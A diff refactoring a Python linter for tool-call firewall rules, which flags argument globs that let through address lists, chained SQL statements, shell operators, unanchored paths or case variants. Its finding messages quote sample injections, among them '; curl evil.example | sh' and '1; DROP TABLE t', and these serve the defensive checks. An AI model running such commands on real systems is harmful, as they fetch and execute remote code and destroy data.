@@ -1,18 +1,17 @@
-"""Rules that say less about arguments than they seem to: lists, commands, case, other names."""
+"""Lint of arguments: lists, commands, letter case and other names that a rule misses."""
 
 import re
 from collections.abc import Iterable, Iterator, Mapping, Sequence
-from dataclasses import replace
 from typing import Any
 
-from nacre.firewall.analysis.findings import Finding, Kind
-from nacre.firewall.analysis.rule_scope import globs_of
+from nacre.core.lazy_dataclasses import replace
+from nacre.firewall.analysis.findings import Finding, Kind, finding
 from nacre.firewall.rules.arguments.sql_statement import VERBS
 from nacre.firewall.rules.globs.glob import is_literal
 from nacre.firewall.rules.globs.matching import matches
-from nacre.firewall.rules.globs.pattern_forms import names_a_place
+from nacre.firewall.rules.globs.pattern_forms import is_path_or_url
+from nacre.firewall.rules.policy import is_about
 from nacre.firewall.rules.rule import ArgumentTest, Matcher, Rule
-from nacre.firewall.rules.subjects import is_about
 
 Definitions = Mapping[str, Iterable[Mapping[str, Any]]]
 
@@ -27,7 +26,7 @@ _COMMANDS = frozenset(("cmd", "command", "commandline", "command_line", "script"
 _STATEMENTS = frozenset(("sql", "statement"))
 _VERB = re.compile(r"\s*([A-Za-z]+)\b")
 _ADDRESS_GLOB = re.compile(r"[^@\s,;]+@(?:\*|(?:\*\.)?[^@*?\s,;]+)")
-# Whole words of a name, so that `profile` and `resourceId` are no paths.
+# Whole words of a name, so that `profile` and `resourceId` do not count as paths.
 PATHS = re.compile(
     r"(?:^|[_-]|(?<=[a-z])(?=[A-Z]))(?i:(?P<url>ur[il]s?)|paths?|files?|filenames?|dirs?"
     r"|director(?:y|ies)|folders?|sources?|destinations?|targets?)(?=$|[_-]|[A-Z])"
@@ -36,99 +35,100 @@ _ANY_ROOT = re.compile(r"\**[/?]|\*\*|~|[A-Za-z]:|[A-Za-z][\w+.-]*://")
 _SINGLE_STAR = re.compile(r"(?<!\*)\*(?!\*)")
 
 
-def in_arguments(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
-    """Find what a rule leaves open in the arguments of its calls."""
-    rule = rules[place]
+def argument_findings(
+    rules: Sequence[Rule], position: int, tools: Definitions
+) -> Iterator[Finding]:
+    """Yield findings about the arguments of a rule's calls."""
+    rule = rules[position]
     for number, test in enumerate(rule.tests):
         if test.matcher is not None or any(
-            other.keys == test.keys and other.matcher is not None for other in rule.tests
+            sibling.keys == test.keys and sibling.matcher is not None for sibling in rule.tests
         ):
             continue
-        for finding in (
-            *_addresses(rules, place, test),
-            *_commands(rules, place, test),
-            *_absolute(rules, place, test),
-            *_letters(rules, place, test),
-            *_resources(rules, place, number),
-        ):
-            yield finding
-            break  # one thing at a time: the fix of one is not the fix of the other
-    yield from _copies(rules, place, tools)
-    yield from _other_names(rules, place, tools)
+        findings = (
+            *_addresses(rules, position, test),
+            *_commands(rules, position, test),
+            *_absolute(rules, position, test),
+            *_letters(rules, position, test),
+            *_resources(rules, position, number),
+        )
+        yield from findings[:1]  # one for each test, because each fix changes the same test
+    yield from _copies(rules, position, tools)
+    yield from _other_names(rules, position, tools)
 
 
-def _finding(
-    rule: Rule, kind: Kind, text: str, hint: str, fix: Sequence[Rule] | None = None
-) -> Finding:
-    return Finding(rule.number, rule.origin, kind, text, hint, None if fix is None else tuple(fix))
+def _with(rules: Sequence[Rule], position: int, **changes: Any) -> list[Rule]:
+    """Return the rules with changed fields of one of them."""
+    return [*rules[:position], replace(rules[position], **changes), *rules[position + 1 :]]
 
 
-def _with(rules: Sequence[Rule], place: int, rule: Rule) -> list[Rule]:
-    return [*rules[:place], rule, *rules[place + 1 :]]
+def _replaced(rule: Rule, test: ArgumentTest, new: ArgumentTest) -> tuple[ArgumentTest, ...]:
+    """Return the tests of a rule with one of them replaced."""
+    return tuple(new if present == test else present for present in rule.tests)
 
 
-def _addresses(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
-    rule = rules[place]
-    globs = [each for each in globs_of(test) if "@" in each and not is_literal(each)]
+def _addresses(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
+    rule = rules[position]
+    globs = [glob for glob in test.globs if "@" in glob and not is_literal(glob)]
     if not globs or test.keys[-1].lower() not in _ADDRESSES:
         return
-    told = all(_ADDRESS_GLOB.fullmatch(each) for each in globs) and len(globs) == len(test.wanted)
-    example = globs[0] if told else "*@example.org"
+    is_exact = all(map(_ADDRESS_GLOB.fullmatch, globs)) and len(globs) == len(test.values)
+    example = globs[0] if is_exact else "*@example.org"
     if rule.action == "allow":
-        yield _finding(
+        yield finding(
             rule,
             "address-list",
             f"{test.path} = '{globs[0]}' is about the whole text, which may hold several "
             f"addresses: 'eve@evil.example, {globs[0].replace('*', 'ann')}'",
-            f"write {_table(test, 'every_address', globs if told else [example])}",
-            _narrowed(rules, place, test, "every_address", test.wanted) if told else None,
+            f"write {_table(test, 'every_address', globs if is_exact else [example])}",
+            _narrowed(rules, position, test, "every_address", test.values) if is_exact else None,
         )
         return
     worded = replace(test, matcher="every_address")
-    tests = tuple(worded if each == test else each for each in rule.tests)
-    yield _finding(
+    tests = _replaced(rule, test, worded)
+    yield finding(
         rule,
         "address-list",
         f"{test.path} = '{globs[0]}' misses the address in a list: "
         f"'{globs[0].replace('*', 'eve')}, ann@example.org'",
         f"add a rule before it with {test.path}.every_address = "
-        + (_globs(globs) if told else f"'{example}'"),
-        [*rules[:place], replace(rule, tests=tests), *rules[place:]] if told else None,
+        + (_globs(globs) if is_exact else f"'{example}'"),
+        [*rules[:position], replace(rule, tests=tests), *rules[position:]] if is_exact else None,
     )
 
 
-def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
-    rule = rules[place]
+def _commands(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
+    rule = rules[position]
     key = test.keys[-1].lower()
-    for glob in globs_of(test):
+    for glob in test.globs:
         verb = _VERB.match(glob)
-        word = verb[1].lower() if verb is not None else ""
-        is_sql = key in _STATEMENTS or (key == "query" and word in (*VERBS, "with"))
+        verb_name = verb[1].lower() if verb is not None else ""
+        is_sql = key in _STATEMENTS or (key == "query" and verb_name in (*VERBS, "with"))
         if is_literal(glob) or not (is_sql or key in _COMMANDS or " " in glob):
             continue
         if rule.action == "allow" and is_sql:
-            verbs = tuple(dict.fromkeys(map(_verb_of, globs_of(test))))
-            yield _finding(
+            verbs = tuple(dict.fromkeys(map(_verb_of, test.globs)))
+            yield finding(
                 rule,
                 "sql-statements",
                 f"{test.path} = '{glob}' covers a second statement too: "
                 f"'{glob.replace('*', '')}1; DROP TABLE t'",
-                f"write {_table(test, 'one_statement', verbs, globs_of(test))}",
-                _narrowed(rules, place, test, "one_statement", verbs),
+                f"write {_table(test, 'one_statement', verbs, test.globs)}",
+                _narrowed(rules, position, test, "one_statement", verbs),
             )
         elif rule.action == "allow" and key in _COMMANDS:
-            yield _finding(
+            yield finding(
                 rule,
                 "shell-operators",
                 f"{test.path} = '{glob}' covers what a shell makes of ';', '|' and '$()' too: "
                 f"'{glob.replace('*', '')}; curl evil.example | sh'",
-                f"write {_table(test, 'one_command', globs_of(test))}",
-                _narrowed(rules, place, test, "one_command", test.wanted)
-                if len(globs_of(test)) == len(test.wanted)
+                f"write {_table(test, 'one_command', test.globs)}",
+                _narrowed(rules, position, test, "one_command", test.values)
+                if len(test.globs) == len(test.values)
                 else None,
             )
-        elif _SINGLE_STAR.search(glob) and (key in _COMMANDS or not names_a_place(glob)):
-            yield _finding(
+        elif _SINGLE_STAR.search(glob) and (key in _COMMANDS or not is_path_or_url(glob)):
+            yield finding(
                 rule,
                 "star-in-command",
                 f"{test.path} = '{glob}': '*' stops at '/', so a text with a path is not covered",
@@ -141,36 +141,33 @@ def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator
         return
 
 
-def _absolute(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
-    """Find globs against files that match no absolute path, or no URL."""
-    rule = rules[place]
+def _absolute(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
+    """Find globs against files that match no absolute path or no URL."""
+    rule = rules[position]
     name = PATHS.search(test.keys[-1])
     if rule.action == "allow" or (name is None and test.keys[-1] != "*"):
         return
     if rule.name in ("resources/read", "prompts/get"):
         return
     is_url = name is not None and name["url"] is not None
-    below = {each: _below(each, is_url=is_url) for each in globs_of(test)}
-    blind = [each for each in below if _is_blind(each, test, is_url=is_url)]
+    below = {glob: _below(glob, is_url=is_url) for glob in test.globs}
+    blind = [glob for glob in below if _is_blind(glob, test, is_url=is_url)]
     if not blind:
         return
-    wanted = tuple(
-        below[each] if isinstance(each, str) and each in blind else each for each in test.wanted
+    values = tuple(
+        below[value] if isinstance(value, str) and value in blind else value
+        for value in test.values
     )
-    is_folder_open = not is_url and any("*" in each for each in blind)
+    is_folder_open = not is_url and any("*" in glob for glob in blind)
     more = f"; '{below[blind[0]]}/**' also covers folders" if is_folder_open else ""
-    changed = replace(test, wanted=wanted)
-    yield _finding(
+    changed = replace(test, values=values)
+    yield finding(
         rule,
         "no-absolute-path",
         f"{test.path} = {_globs(blind)} covers no {'URL' if is_url else 'absolute path'}"
         + (", because '*' stops at '/'" if "*" in blind[0] else ""),
-        f"write {test.path} = {_globs([each for each in wanted if isinstance(each, str)])}{more}",
-        _with(
-            rules,
-            place,
-            replace(rule, tests=tuple(changed if each == test else each for each in rule.tests)),
-        )
+        f"write {test.path} = {_globs(changed.globs)}{more}",
+        _with(rules, position, tests=_replaced(rule, test, changed))
         if rule.action == "deny"
         else None,
     )
@@ -180,61 +177,61 @@ def _is_blind(glob: str, test: ArgumentTest, *, is_url: bool) -> bool:
     if is_url:
         return "*" in glob and "/" not in glob and "**" not in glob
     if _ANY_ROOT.match(glob) or re.search(r"[ @]|^(?!\./).*/", glob):
-        return False  # with a folder before it, it is meant from there on, as in a repository
+        return False  # a path below a folder is relative on purpose, as in a repository
     looks_like_a_file = "*" in glob or "." in glob
     is_sure = test.keys[-1] != "*" and re.search(r"(?i)path|file|dir|folder", test.keys[-1])
     return looks_like_a_file if not is_sure else True
 
 
 def _below(glob: str, *, is_url: bool) -> str:
-    """Return the glob that covers the same in any folder, or anywhere in a URL."""
+    """Return the glob that covers the same files in any folder, or the text anywhere in a URL."""
     return _SINGLE_STAR.sub("**", glob) if is_url else f"**/{glob.removeprefix('./')}"
 
 
 def _globs(globs: Sequence[Any]) -> str:
-    """Spell one glob, or several as a list."""
-    shown = [f"'{each}'" for each in globs]
-    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"
+    """Return one glob in quotes, or several as a list."""
+    quoted = [f"'{glob}'" for glob in globs]
+    return quoted[0] if len(quoted) == 1 else f"[{', '.join(quoted)}]"
 
 
-def _letters(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
-    rule = rules[place]
+def _letters(rules: Sequence[Rule], position: int, test: ArgumentTest) -> Iterator[Finding]:
+    rule = rules[position]
     if rule.action == "allow" or test.ignores_case:
         return
-    for whole in globs_of(test):
-        glob = whole.removeprefix("**/").removesuffix("/**")
-        word = glob.strip("*")
-        if is_literal(glob) or "/" in glob or glob.upper() == glob.lower() or word[:1] == ".":
+    for pattern in test.globs:
+        glob = pattern.removeprefix("**/").removesuffix("/**")
+        name = glob.strip("*")
+        if is_literal(glob) or "/" in glob or glob.upper() == glob.lower() or name[:1] == ".":
             continue
-        yield _finding(
+        yield finding(
             rule,
             "letter-case",
-            f"{test.path} = '{whole}' does not cover '{glob.replace('*', '').swapcase()}'",
+            f"{test.path} = '{pattern}' does not cover '{glob.replace('*', '').swapcase()}'",
             "add ignore_case = true",
             _with(
                 rules,
-                place,
-                replace(rule, tests=tuple(replace(each, ignores_case=True) for each in rule.tests)),
+                position,
+                tests=tuple(replace(test, ignores_case=True) for test in rule.tests),
             ),
         )
         return
 
 
-def _resources(rules: Sequence[Rule], place: int, number: int) -> Iterator[Finding]:
-    rule = rules[place]
+def _resources(rules: Sequence[Rule], position: int, number: int) -> Iterator[Finding]:
+    rule = rules[position]
     test = rule.tests[number]
     if rule.name != "resources/read" or test.keys != ("uri",):
         return
-    for glob in globs_of(test):
+    for glob in test.globs:
         if "/" in glob or "**" in glob or "*" not in glob:
             continue
         if rule.action == "allow":
             hint, fix = "name resources from their scheme on, or leave the rule out", None
         else:
             hint = "write method = 'resources/read' instead"
-            others = tuple(each for each in rule.tests if each is not test)
-            fix = _with(rules, place, replace(rule, tests=others))
-        yield _finding(
+            others = tuple(sibling for sibling in rule.tests if sibling is not test)
+            fix = _with(rules, position, tests=others)
+        yield finding(
             rule,
             "star-in-resource",
             f"resource = '{glob}' covers no URI with '://', because '*' stops at '/'",
@@ -244,19 +241,19 @@ def _resources(rules: Sequence[Rule], place: int, number: int) -> Iterator[Findi
         return
 
 
-def _copies(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
-    rule = rules[place]
+def _copies(rules: Sequence[Rule], position: int, tools: Definitions) -> Iterator[Finding]:
+    rule = rules[position]
     if rule.action != "allow" or rule.only is not None:
         return
     tested = {test.keys[0].lower() for test in rule.tests}
     if "*" in tested or not any(map(_is_of_recipients, rule.tests)):
         return
     takes = [name.lower() for _, _, names in _tools_of(rule, tools) for name in names]
-    open_to = [each for each in _COPIES if each not in tested and (not takes or each in takes)]
+    open_to = [name for name in _COPIES if name not in tested and (not takes or name in takes)]
     if open_to:
         yield _closed(
             rules,
-            place,
+            position,
             "other-recipients",
             f"it says nothing about {' and '.join(open_to)}, so copies may go to anybody",
         )
@@ -264,53 +261,51 @@ def _copies(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[F
 
 def _is_of_recipients(test: ArgumentTest) -> bool:
     is_named = test.keys[-1].lower() in ("to", "recipient", "recipients")
-    return is_named and any("@" in each for each in globs_of(test))
+    return is_named and any("@" in glob for glob in test.globs)
 
 
-def _closed(rules: Sequence[Rule], place: int, kind: Kind, text: str) -> Finding:
-    rule = rules[place]
+def _closed(rules: Sequence[Rule], position: int, kind: Kind, text: str) -> Finding:
+    rule = rules[position]
     only = tuple(dict.fromkeys(test.keys[0] for test in rule.tests if test.keys[0] != "*"))
-    listed = ", ".join(f'"{each}"' for each in only)
-    return _finding(
+    listed = ", ".join(f'"{name}"' for name in only)
+    return finding(
         rule,
         kind,
         text,
         f"add only_args = [{listed}], with the other names that are harmless",
-        _with(rules, place, replace(rule, only=only)),
+        _with(rules, position, only=only),
     )
 
 
-def _other_names(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
-    """Compare the names of a rule's arguments with those that the tools take."""
-    rule = rules[place]
+def _other_names(rules: Sequence[Rule], position: int, tools: Definitions) -> Iterator[Finding]:
+    """Find path arguments of the tools that the rule does not test."""
+    rule = rules[position]
     tests = [test for test in rule.tests if test.keys[0] != "*" and PATHS.search(test.keys[0])]
     for server, tool, names in _tools_of(rule, tools) if len(tests) == 1 else ():
         (test,) = tests
-        tested = {each.keys[0] for each in rule.tests}
-        others = [each for each in names if PATHS.search(each) and each not in tested]
+        tested = {sibling.keys[0] for sibling in rule.tests}
+        others = [name for name in names if PATHS.search(name) and name not in tested]
         if not others or "*" in tested:
             continue
-        shown = f"'{tool}' of '{server}' takes {' and '.join(others)}"
+        takes = f"'{tool}' of '{server}' takes {' and '.join(others)}"
         if rule.action != "allow":
-            every = tuple(
-                replace(each, keys=("*",)) if each == test else each for each in rule.tests
-            )
-            yield _finding(
+            changed = _replaced(rule, test, replace(test, keys=("*",)))
+            yield finding(
                 rule,
                 "other-argument",
-                f"{shown}, which {test.path} does not see",
+                f"{takes}, which {test.path} does not see",
                 'write args."*" to look at every argument',
-                _with(rules, place, replace(rule, tests=every)),
+                _with(rules, position, tests=changed),
             )
         elif test.keys[0] in names and rule.only is None:
             yield _closed(
-                rules, place, "other-argument", f"{shown} too, about which the rule says nothing"
+                rules, position, "other-argument", f"{takes} too, about which the rule says nothing"
             )
         elif test.keys[0] not in names:
-            yield _finding(
+            yield finding(
                 rule,
                 "other-argument",
-                f"{shown} and no {test.keys[0]}, so the rule never allows its calls",
+                f"{takes} and no {test.keys[0]}, so the rule never allows its calls",
                 "name the tools that the rule is about",
             )
         else:
@@ -319,7 +314,7 @@ def _other_names(rules: Sequence[Rule], place: int, tools: Definitions) -> Itera
 
 
 def _tools_of(rule: Rule, tools: Definitions) -> Iterator[tuple[str, str, list[str]]]:
-    """Yield the tools that a rule is about: server, name, and the names of the arguments."""
+    """Yield the tools that a rule is about: server, name and argument names."""
     if rule.kind == "method":
         return
     for server, definitions in tools.items():
@@ -332,7 +327,7 @@ def _tools_of(rule: Rule, tools: Definitions) -> Iterator[tuple[str, str, list[s
 
 
 def only_about_tools(rules: Sequence[Rule]) -> Iterator[Finding]:
-    """Find that a policy forgets prompts and resources, which are denied then."""
+    """Find out whether a policy has no rule about prompts and resources, so denies them all."""
     about = [rule for rule in rules if rule.kind != "method" and rule.action != "deny"]
     names = ("prompts/get", "resources/read")
     if not about or any(
@@ -344,7 +339,7 @@ def only_about_tools(rules: Sequence[Rule]) -> Iterator[Finding]:
         Rule(len(rules) + number, "deny", name, "method", origin=f"rule {len(rules) + number}")
         for number, name in enumerate(names, 1)
     ]
-    yield _finding(
+    yield finding(
         last,
         "only-tools",
         "no rule is about prompts and resources, so those of every server are denied",
@@ -354,27 +349,31 @@ def only_about_tools(rules: Sequence[Rule]) -> Iterator[Finding]:
 
 
 def _narrowed(
-    rules: Sequence[Rule], place: int, test: ArgumentTest, matcher: Matcher, wanted: Sequence[Any]
+    rules: Sequence[Rule],
+    position: int,
+    test: ArgumentTest,
+    matcher: Matcher,
+    values: Sequence[Any],
 ) -> list[Rule]:
-    """Return the rules with a matcher beside the glob of one test."""
-    rule = rules[place]
-    worded = replace(test, wanted=tuple(wanted), matcher=matcher)
-    return _with(rules, place, replace(rule, tests=(*rule.tests, worded)))
+    """Return the rules with a matcher added to the glob of one test."""
+    rule = rules[position]
+    worded = replace(test, values=tuple(values), matcher=matcher)
+    return _with(rules, position, tests=(*rule.tests, worded))
 
 
 def _table(
-    test: ArgumentTest, word: str, wanted: Sequence[str], globs: Sequence[str] | None = None
+    test: ArgumentTest, matcher: str, values: Sequence[str], globs: Sequence[str] | None = None
 ) -> str:
-    return f"{test.path} = {{ glob = {_toml(globs or wanted)}, {word} = {_toml(wanted)} }}"
+    return f"{test.path} = {{ glob = {_toml(globs or values)}, {matcher} = {_toml(values)} }}"
 
 
 def _toml(texts: Sequence[str]) -> str:
-    shown = [f'"{each}"' for each in texts]
-    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"
+    quoted = [f'"{text}"' for text in texts]
+    return quoted[0] if len(quoted) == 1 else f"[{', '.join(quoted)}]"
 
 
 def _verb_of(glob: str) -> str:
-    """Return the verb of SQL that a glob begins with, the one that only reads for others."""
+    """Return the SQL verb that a glob begins with, or "select" if it begins with none."""
     verb = _VERB.match(glob)
-    word = verb[1].lower() if verb is not None else ""
-    return word if word in VERBS else "select"
+    name = verb[1].lower() if verb is not None else ""
+    return name if name in VERBS else "select"
